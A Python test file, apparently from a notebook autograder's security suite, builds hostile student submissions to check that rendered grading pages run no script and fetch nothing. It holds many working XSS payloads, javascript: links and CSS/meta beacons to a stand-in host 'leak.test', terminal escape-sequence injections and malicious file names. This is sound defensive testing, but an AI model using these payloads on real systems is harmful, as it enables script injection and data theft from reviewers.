"""What is shown to people carries scripts, styles and links: pages run and fetch nothing, terminals show plain text."""

import base64
import json

from tests.attacks.submission import FULL, alone, beside, changed, files

RUN = "window.ran = 1; document.title = 'ran'; fetch('http://leak.test/x')"
HTML = [
    f"<script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f'<svg onload="{RUN}"><script>{RUN}</script><foreignObject><iframe srcdoc="<script>parent.ran=1</script>"></iframe></foreignObject></svg>',
    f'<a href="javascript:{RUN}" autofocus onfocus="{RUN}">click</a>',
    '<a href="java&#10;script:window.ran=1">click</a><a href=" javascript&colon;window.ran=1">click</a>',
    '<iframe srcdoc="<script>parent.window.ran = 1</script>"></iframe><iframe src="javascript:parent.ran=1"></iframe>',
    '<img srcset="http://leak.test/set 1x" src="http://leak.test/img"><picture><source srcset="http://leak.test/source"></picture>',
    '<meta http-equiv="refresh" content="0; url=http://leak.test/refresh"><base href="http://leak.test/">',
    '<style>@import "http://leak.test/css"; body { background: url(http://leak.test/bg) }</style>',
    '<div style="background: url(http://leak.test/style); position: fixed; inset: 0">cover</div>',
    '<link rel="stylesheet" href="http://leak.test/link"><link rel="prefetch" href="http://leak.test/prefetch">',
    f'<details open ontoggle="{RUN}"><video><source onerror="{RUN}"></video><object data="http://leak.test/o"></object><embed src="http://leak.test/e">',
    f'<form action="http://leak.test/form"><input autofocus onfocus="{RUN}"><button formaction="javascript:{RUN}">go</button></form>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript><textarea><script>{RUN}</script></textarea>",
    f'<table background="http://leak.test/table"><td background="http://leak.test/td" onclick="{RUN}">x</td></table>',
    '<a href="data:text/html,<script>opener.ran=1</script>" target="_blank" ping="http://leak.test/ping">data</a>',
]
MARKDOWN = [
    *HTML,
    "[click](javascript:window.ran=1) [click](java\\script:window.ran=1) <javascript:window.ran=1> [x]: javascript:window.ran=1",
    "![x](http://leak.test/md) ![x][y]\n\n[y]: http://leak.test/ref",
    "[a](data:text/html;base64,PHNjcmlwdD5vcGVuZXIucmFuPTE8L3NjcmlwdD4=)",
    r"$\href{javascript:window.ran=1}{x}$ $$\style{background:url(http://leak.test/mj)}{x} \class{a}{x} \cssId{b}{x}$$",
    r"$\bbox[background:url(http://leak.test/bbox)]{x}$ \(\require{html}\href{javascript:window.ran=1}{x}\)",
    r"$\def\h{\href}\h{javascript:window.ran=1}{x} \unicode[url(http://leak.test/font)]{65} \mmlToken{mi}[href=javascript:ran=1]{x}$",
    r"$\data{x=1}{y} \includegraphics{http://leak.test/g} \text{<img src=x onerror='window.ran=1'>} x < y</script><script>window.ran=1</script>$",
    "```\n</code></pre><script>window.ran=1</script>\n```\n\n    </pre><script>window.ran=1</script>",
    "`</code><script>window.ran=1</script>` &lt;script&gt;window.ran=1&lt;/script&gt; &#60;script>window.ran=1</script>",
]
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script><image href="http://leak.test/svg"/></svg>'

OUTPUTS = f"""
from IPython.display import HTML, Javascript, Latex, Markdown, SVG, IFrame, Image, display, YouTubeVideo
for text in {HTML!r}: display({{"text/html": text, "text/plain": text}}, raw=True)
"""

TYPES = f"""
from IPython.display import display
html, svg = {HTML[0]!r}, {SVG!r}
for kind in ("application/javascript", "application/json", "application/vnd.vegalite.v5+json", "application/vnd.jupyter.widget-view+json",
             "application/vnd.plotly.v1+json", "application/pdf", "text/markdown", "text/latex", "image/svg+xml", "text/x-evil", "image/gif"):
    display({{kind: html if "svg" not in kind else svg}}, raw=True)
display({{"text/latex": r"$\\href{{javascript:window.ran=1}}{{x}}$", "text/plain": html}}, raw=True)
display({{"image/png": html, "image/jpeg": "javascript:window.ran=1"}}, raw=True)
display({{"image/png": {base64.b64encode(SVG.encode()).decode()!r}}}, raw=True)
print(html, svg)
import sys; print(html, file=sys.stderr)
"""

ERRORS = f"""
class Evil(Exception): pass
Evil.__name__ = Evil.__qualname__ = {HTML[0]!r}
raise Evil({HTML[1]!r} + "\\x1b]8;;http://leak.test/ansi\\x07link\\x1b]8;;\\x07\\x1b[2J\\x1b[31m[bold red]")
"""

TERMINAL = r"""
print("\x1b[2J\x1b[1;1H\x1b]0;title\x07\x1b]52;c;ZXZpbA==\x07\x1bP+q\x1b\\\x9b31m\r20 / 20\b\b\x00\u202egnp.exe\u2066 [bold red]x[/]")
raise RuntimeError("\x1b[31m\x1b[2J [link=http://leak.test/rich]x[/link]")
"""


def free_response(text):
    def change(notebook):
        for cell in notebook["cells"]:
            if cell["metadata"].get("nbgrader", {}).get("grade_id") == "free_response":
                cell["source"] = text

    return change


def more_cells(notebook):
    for kind in ("markdown", "raw", "code"):
        for text in MARKDOWN:
            notebook["cells"].append({"cell_type": kind, "metadata": {"format": "text/html"}, "source": text})


def metadata(notebook):
    """Whatever a notebook says of itself: its kernel, its language, its authors, tags, attachments, old outputs."""
    evil = HTML[0] + HTML[1]
    notebook["metadata"] = {
        "kernelspec": {"name": evil, "display_name": evil, "language": evil},
        "language_info": {"name": evil, "codemirror_mode": evil, "mimetype": evil},
        "title": evil, "authors": [{"name": evil}], "widgets": {evil: {"state": {evil: evil}}},
    }  # fmt: skip
    for cell in notebook["cells"]:
        cell["metadata"] |= {
            "tags": [evil],
            "name": evil,
            "format": "text/html",
            "slideshow": {"slide_type": evil},
        }
        if cell["cell_type"] == "markdown":
            cell["attachments"] = {
                evil: {"image/svg+xml": SVG},
                "x.svg": {"image/svg+xml": SVG, "text/html": evil},
            }
        else:
            cell["outputs"] = [
                {"output_type": "display_data", "metadata": {evil: evil}, "data": {"text/html": evil}}
            ]
    free_response("![x](attachment:x.svg) [x](attachment:x.svg)")(notebook)


def file_names(folder, notebook):
    """Names of other files, which the remarks on a submission repeat."""
    (folder / "gibbs_principle.ipynb").write_text(json.dumps(notebook))
    for name in ("<img src=x onerror=window.ran=1>.ipynb", "<script>window.ran=1<", 'a"onclick="x.ipynb'):
        (folder / name).write_text("{}")


def markup_in_the_source(notebook):
    for cell in notebook["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("solution") and cell["cell_type"] == "code":
            cell["source"] += f"\n# </code></pre>{HTML[0]}{HTML[1]}\n_ = '''{HTML[2]}'''"


ATTACKS = {
    "html": beside(OUTPUTS, FULL),
    "types": beside(TYPES, FULL),
    "errors": beside(ERRORS, FULL),
    "terminal": beside(TERMINAL, FULL),
    "free_response": changed(free_response("\n\n".join(MARKDOWN))),
    "cells": changed(more_cells),
    "source": changed(markup_in_the_source),
    "metadata": changed(metadata),
    "file_names": files(file_names, FULL),
    "figure": beside(
        f"import matplotlib.pyplot as plt\nplt.plot([1, 2], gid={HTML[0]!r}, url='javascript:window.ran=1')\nplt.title('<script>window.ran=1')\n"
        "%config InlineBackend.figure_formats = ['svg', 'png']\nplt.show()",
        FULL,
    ),
    "messages": alone(
        f"def f(*args): raise ValueError({HTML[1]!r} + '\\x1b[31m[red]')\nfor name in ('entropy', 'kl'): globals()[name] = f"
    ),
    "answers": alone(f"def f(*args): return {HTML[1]!r}\nfor name in ('entropy', 'kl'): globals()[name] = f"),
    "pandas_table": beside(
        "class Table:\n    def _repr_html_(self): return '<table onclick=\"window.ran=1\"><tr><td>1<script>window.ran=1</script></td></tr></table>'\nTable()",
        FULL,
    ),
}
